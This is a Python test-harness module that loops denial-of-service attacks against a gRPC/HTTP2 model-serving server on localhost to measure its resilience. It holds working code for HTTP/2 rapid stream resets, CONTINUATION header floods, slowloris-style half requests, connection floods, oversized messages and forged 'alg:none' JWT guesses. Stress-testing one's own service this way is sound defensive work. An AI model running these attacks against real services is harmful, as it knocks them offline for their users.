"""`python -m bench.attacks NAME ADDRESS TOKEN [--idle]`: one attack, again and again until it is
killed. With `--idle` it has only the processor time that no other process wants."""

from __future__ import annotations

import os
import secrets
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack, suppress

import grpc
import numpy as np
from edunn_client import Client, EdunnError

from bench.raw_http2 import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PATH,
    RST_STREAM,
    RawConnection,
    call_headers,
    frame,
    message_head,
)
from edunn_serving.setting_types import MEBIBYTE

# A pause after each round, so that the attackers leave the machine some time.
PAUSE_SECONDS = 0.05
ABUSER_CONNECTIONS = 50
# Each attack is a process, and has an address of its own. All of 127.0.0.0/8 is this machine's.
ATTACKER = f"127.1.{os.getpid() // 250 % 250}.{os.getpid() % 250 + 1}"
UNLIMITED = [("grpc.max_send_message_length", -1)]


def connect(address: str) -> RawConnection:
    """Connect from an address that the well-behaved callers do not have."""
    return RawConnection(address, source=ATTACKER)


def guesses(address: str, token: str) -> None:
    """Call with tokens that are none: random ones, and some in the form of a JWT."""
    with connect(address) as connection, suppress(OSError):
        for stream in range(1, 101, 2):
            guess = secrets.choice((secrets.token_hex(16), "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhIn0."))
            connection.open_call(stream, "GetSession", guess, END_STREAM)
        answered = 0
        while answered < 50 and (got := connection.next_frame())[0] != -1:
            answered += got[0] == HEADERS and bool(got[1] & END_STREAM)


def connections(address: str, token: str) -> None:
    """Open many connections and make no call."""
    with ExitStack() as several:
        for _ in range(300):
            with suppress(OSError):
                several.enter_context(connect(address))
        time.sleep(1)


def headers(address: str, token: str) -> None:
    """Send headers without end."""
    with connect(address) as connection, suppress(OSError):
        block = call_headers("Forward", token, [(b"x", b"y" * 10_000)] * 100)
        connection.send(frame(HEADERS, 0, 1, block[:16_000]))
        for at in range(16_000, len(block), 16_000):
            connection.send(frame(CONTINUATION, 0, 1, block[at : at + 16_000]))


def resets(address: str, token: str) -> None:
    """Open streams and reset them at once."""
    block = call_headers("Compute", secrets.choice((token, "")))
    with connect(address) as connection, suppress(OSError):
        for stream in range(1, 20_001, 2):
            reset = frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            connection.send(frame(HEADERS, END_HEADERS, stream, block) + reset)


def half_calls(address: str, token: str) -> None:
    """Make calls without a body."""
    with connect(address) as connection, suppress(OSError):
        for stream in range(1, 1001, 2):
            connection.open_call(stream, "Forward", token)
        time.sleep(1)


def half_requests(address: str, token: str) -> None:
    """Send requests that lack their last byte."""
    body = message_head(64 * MEBIBYTE) + bytes(64 * MEBIBYTE - 1)
    with connect(address) as connection, suppress(OSError):
        connection.open_call(1, secrets.choice(("Forward", "Compute")), token)
        connection.send_data(1, body)
        time.sleep(2)


def oversize(address: str, token: str) -> None:
    """Send requests that are too large, and such of countless fields."""
    with grpc.insecure_channel(address, UNLIMITED) as channel:
        call: grpc.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(
            PATH + "CreateSession"
        )
        for request in (bytes(90 * MEBIBYTE), b"\x12\x00" * (16 * MEBIBYTE)):
            with suppress(grpc.RpcError):
                call(request, metadata=(("authorization", f"Bearer {token}"),), timeout=20)


def garbage(address: str, token: str) -> None:
    """Send bytes that are no HTTP/2."""
    host, _, port = address.rpartition(":")
    with (
        socket.create_connection((host, int(port)), None, (ATTACKER, 0)) as connection,
        suppress(OSError),
    ):
        for _ in range(100):
            connection.sendall(secrets.token_bytes(10_000))


def slow_readers(address: str, token: str) -> None:
    """Ask for large answers and do not read them."""
    with suppress(EdunnError), Client(address, token=token) as client, client.session() as session:
        layer = session.layer(
            "l", "Conv2d", in_channels=1, out_channels=1, kernel_size=1, padding=[700, 700]
        )
        layer.forward(np.ones((1, 1, 1, 1)), untracked=True)
        with connect(address) as connection, suppress(OSError):
            body = _forward_of(session.session_id)
            for stream in range(1, 61, 2):
                connection.open_call(stream, "Forward", token)
                connection.send(frame(0, 1, stream, message_head(len(body)) + body))
            time.sleep(3)


def _forward_of(session_id: str) -> bytes:
    from edunn_serving.v1.layer_service_pb2 import ForwardRequest

    request = ForwardRequest(session_id=session_id, layer="l", untracked=True)
    request.inputs.add(data_type=6, shape=[1, 1, 1, 1], data=np.ones(1).tobytes())
    encoded: bytes = request.SerializeToString()
    return encoded


def abuse(address: str, token: str) -> None:
    """Call as one caller over fifty connections, with large tensors and slow layers.

    Each connection calls as fast as it is answered, so this is fifty callers' load and more.
    """

    def call() -> None:
        x = np.ones((256, 512))
        client = Client(address, token=token)
        with suppress(EdunnError), client, client.session() as session:
            dense = session.layer("l", "Linear", input_size=512, output_size=512)
            until = time.monotonic() + 5
            while time.monotonic() < until:
                dense.forward(x)

    threads = [threading.Thread(target=call) for _ in range(ABUSER_CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


ATTACKS: Mapping[str, Callable[[str, str], None]] = {
    each.__name__: each
    for each in (
        guesses, connections, headers, resets, half_calls, half_requests, oversize, garbage,
        slow_readers, abuse,
    )
}  # fmt: skip


def rounds() -> Iterator[int]:
    """Yield the numbers of the rounds, with a pause between them."""
    number = 0
    while True:
        yield number
        number += 1
        time.sleep(PAUSE_SECONDS)


if __name__ == "__main__":
    if "--idle" in sys.argv:
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    attack = ATTACKS[sys.argv[1]]
    for _ in rounds():
        # The server may refuse a connection that is one too many.
        with suppress(OSError):
            attack(sys.argv[2], sys.argv[3])
        # `bench.siege` counts the rounds.
        print(end=".", flush=True)
